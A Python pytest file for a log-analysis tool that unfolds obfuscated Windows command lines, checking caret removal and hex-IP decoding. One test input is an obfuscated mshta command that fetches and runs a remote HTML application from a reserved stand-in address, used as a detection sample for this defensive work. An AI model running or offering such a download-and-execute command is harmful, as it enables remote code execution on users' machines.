"""Command lines that hide something get fields of what they really run; others stay as they are."""

import pytest

from sekisho.analyzers.command_line import unfold
from sekisho.model.event import Event, Logsource
from sekisho.normalize.commands import FIELDS, enrich

CREATION = Logsource("windows", "process_creation", "sysmon")


def enriched(command, source=CREATION):
    return enrich(Event(source, {"CommandLine": command}), unfold).fields


def test_numeric_address_behind_carets_comes_out():
    """The command line of the public note of 21 January 2022 (mission article 3), on a reserved address."""
    fields = enriched("cmd /c m^sh^t^a h^tt^p^:/^/0xcb00710a/fer/fe3.html")
    assert fields["CommandLine.url"] == ["http://203.0.113.10/fer/fe3.html"]
    assert "hex-ip" in fields["url.hidden_by"]
    assert "mshta" in fields["CommandLine.unfolded"]
    assert set(FIELDS) <= fields.keys()


@pytest.mark.parametrize("command", ["notepad.exe a.txt", "", None, 7])
def test_plain_command_lines_stay(command):
    assert enriched(command) == {"CommandLine": command}


def test_other_events_stay():
    assert enriched("m^sh^t^a x", Logsource("windows", "file_event")) == {"CommandLine": "m^sh^t^a x"}
